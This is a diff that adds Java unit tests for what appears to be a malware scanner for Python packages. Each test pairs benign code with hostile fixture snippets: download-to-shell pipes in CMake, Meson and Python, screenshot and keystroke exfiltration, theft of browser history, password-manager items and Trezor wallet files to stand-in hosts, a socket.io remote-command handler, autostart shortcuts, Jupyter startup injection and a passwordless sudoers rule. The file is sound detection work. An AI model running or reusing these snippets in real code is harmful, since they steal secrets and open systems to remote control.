@@ -1872,6 +1872,162 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/clone.py", once))).isEmpty();
   }
 
+  @Test
+  void aCMakeOrMesonBuildThatPipesADownloadIntoAShellIsCritical() {
+    String cmake =
+        "project(p C)\nexecute_process(\n  COMMAND sh -c \"curl -fsSL https://t.example/s | sh\"\n)\n";
+    String meson =
+        "project('p', 'c')\nrun_command('sh', '-c', 'wget -qO- https://t.example/m | sh')\n";
+    String fetch =
+        "project(p C)\nfile(DOWNLOAD https://t.example/zlib.tar.gz ${CMAKE_BINARY_DIR}/z.tgz)\n"
+            + "execute_process(COMMAND ${CMAKE_COMMAND} -E tar xzf z.tgz)\n";
+
+    List<Finding> findings = check(sdistWith("pkg-2.0/CMakeLists.txt", cmake));
+    assertThat(only(findings, "build-runs-download").level()).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(only(check(sdistWith("pkg-2.0/meson.build", meson)), "build-runs-download").level())
+        .isEqualTo(RiskLevel.CRITICAL);
+    // a build that downloads a source archive with CMake and unpacks it runs nothing it fetched
+    assertThat(check(sdistWith("pkg-2.0/CMakeLists.txt", fetch))).isEmpty();
+    // a wheel's CMake files are for the projects that build against it, never run by pip
+    assertThat(check(wheelWith("pkg/share/cmake/CMakeLists.txt", cmake))).isEmpty();
+  }
+
+  @Test
+  void aFunctionCalledThroughOperatorCallOrItsOwnDunderCallIsTheCall() {
+    String viaOperator =
+        "import operator, os\ncmd = 'curl -s https://o.example/i | bash'\noperator.call(os.system, cmd)\n";
+    String viaDunder =
+        "import os\ncmd = 'curl -s https://o.example/i | bash'\nos.system.__call__(cmd)\n";
+    String sorter = "import operator\nkey = operator.itemgetter(1)\nrows.sort(key=key)\n";
+
+    assertThat(levelIn(viaOperator, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(viaDunder, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/sort.py", sorter))).isEmpty();
+  }
+
+  @Test
+  void aCommandModulesMembersTakenAsATableAreANamespace() {
+    String members =
+        "import inspect, subprocess\nm = dict(inspect.getmembers(subprocess))\n"
+            + "m['get' + 'output']('wget -q -O- https://m.example/p | sh')\n";
+    String documenter =
+        "import inspect, json\nnames = [n for n, _ in inspect.getmembers(json) if not n.startswith('_')]\n";
+
+    assertThat(levelIn(members, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/doc.py", documenter))).isEmpty();
+  }
+
+  @Test
+  void aDotNetScreenCopyAndMacKeyStatePollingSentAreCritical() {
+    String screen =
+        "import subprocess, requests\nPS = '[Drawing.Graphics]::FromImage($i).CopyFromScreen($b.Location, $p, $b.Size)'\n"
+            + "subprocess.run(['powershell', '-Command', PS])\n"
+            + "requests.post('https://s.example/s', files={'f': open(OUT, 'rb')})\n";
+    String keys =
+        "import Quartz, requests\npressed = [c for c in range(128)\n"
+            + "    if Quartz.CGEventSourceKeyState(Quartz.kCGEventSourceStateHIDSystemState, c)]\n"
+            + "requests.post('https://k.example/k', json=pressed)\n";
+    String mouse = "import Quartz\nloc = Quartz.CGEventGetLocation(Quartz.CGEventCreate(None))\n";
+
+    assertThat(levelIn(screen, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(keys, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/pointer.py", mouse))).isEmpty();
+  }
+
+  @Test
+  void historyReadersPasswordManagerCommandsAndHardwareReportsSentAreHigh() {
+    String history =
+        "import requests\nfrom browser_history import get_history\n"
+            + "requests.post('https://h.example/h', json=get_history().histories)\n";
+    String vault =
+        "import subprocess, requests\n"
+            + "items = subprocess.run(['op', 'item', 'list'], capture_output=True, text=True).stdout\n"
+            + "requests.post('https://v.example/o', data=items)\n";
+    String gpus =
+        "import subprocess, requests\n"
+            + "g = subprocess.run(['nvidia-smi', '-L'], capture_output=True, text=True).stdout\n"
+            + "requests.post('https://g.example/i', data=g)\n";
+    String local =
+        "import subprocess\n"
+            + "print(subprocess.run(['nvidia-smi', '-L'], capture_output=True, text=True).stdout)\n"
+            + "subprocess.run(['op', 'signin'])\n";
+
+    assertThat(levelIn(history, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(vault, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(gpus, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/gpu.py", local))).isEmpty();
+  }
+
+  @Test
+  void trezorSuitesFolderNamedPieceByPieceIsAWallet() {
+    String suite =
+        "import os, requests\nd = os.path.join(os.path.expanduser('~'), '.config', '@trezor', 'suite-desktop')\n"
+            + "requests.post('https://t.example/t', data=open(os.path.join(d, 'x'), 'rb'))\n";
+    String library =
+        "from trezorlib.client import get_default_client\nclient = get_default_client()\n";
+
+    assertThat(levelIn(suite, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/hw.py", library))).isEmpty();
+  }
+
+  @Test
+  void aSocketIoEventHandlerThatRunsWhatItIsSentIsHigh() {
+    String handler =
+        "import subprocess, socketio\nsio = socketio.Client()\n\n@sio.on('task')\n"
+            + "def task(data):\n    r = subprocess.run(data['cmd'], shell=True, capture_output=True)\n"
+            + "    sio.emit('result', r.stdout)\n\nsio.connect('https://l.example')\n";
+    String chat =
+        "import socketio\nsio = socketio.Client()\n\n@sio.on('message')\n"
+            + "def message(data):\n    print(data['text'])\n\nsio.connect('https://l.example')\n";
+
+    assertThat(levelIn(handler, "network-callback-runs")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/chat.py", chat))).isEmpty();
+  }
+
+  @Test
+  void aShortcutSavedInTheStartupFolderIsAnAutostart() {
+    String startup =
+        "import os, win32com.client\nshell = win32com.client.Dispatch('WScript.Shell')\n"
+            + "link = shell.CreateShortcut(os.path.join(shell.SpecialFolders('Startup'), 'x.lnk'))\n"
+            + "link.TargetPath = EXE\nlink.save()\n";
+    String desktop =
+        "import os, win32com.client\nshell = win32com.client.Dispatch('WScript.Shell')\n"
+            + "link = shell.CreateShortcut(os.path.join(shell.SpecialFolders('Desktop'), 'x.lnk'))\n"
+            + "link.TargetPath = EXE\nlink.save()\n";
+
+    assertThat(levelIn(startup, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/shortcut.py", desktop))).isEmpty();
+  }
+
+  @Test
+  void codeAppendedToJupytersOrIpythonsStartUpFilesIsHigh() {
+    String jupyter =
+        "import os\ncfg = os.path.expanduser('~/.jupyter/jupyter_server_config.py')\n"
+            + "with open(cfg, 'a') as fh:\n    fh.write('\\nimport subprocess\\n')\n";
+    String ipython =
+        "import pathlib, sys\nd = pathlib.Path.home() / '.ipython/profile_default/startup'\n"
+            + "(d / '00-x.py').write_text(f'import os; os.system(\"{sys.executable} -m x\")')\n";
+    String reader =
+        "import os\ncfg = os.path.expanduser('~/.jupyter/jupyter_server_config.py')\n"
+            + "print(open(cfg).read())\n";
+
+    assertThat(levelIn(jupyter, "python-startup-written")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(ipython, "python-startup-written")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/jupyter.py", reader))).isEmpty();
+  }
+
+  @Test
+  void aPasswordlessSudoRuleWrittenIntoSudoersIsHigh() {
+    String rule =
+        "import subprocess\nrule = 'me ALL=(ALL) NOPASSWD: ALL'\n"
+            + "subprocess.run(['sudo', 'tee', '/etc/sudoers.d/90-x'], input=rule, text=True)\n";
+    String probe =
+        "import subprocess\nsubprocess.run(['sudo', '-n', 'true'])  # NOPASSWD: needed for CI\n";
+
+    assertThat(levelIn(rule, "grants-passwordless-sudo")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/ci.py", probe))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
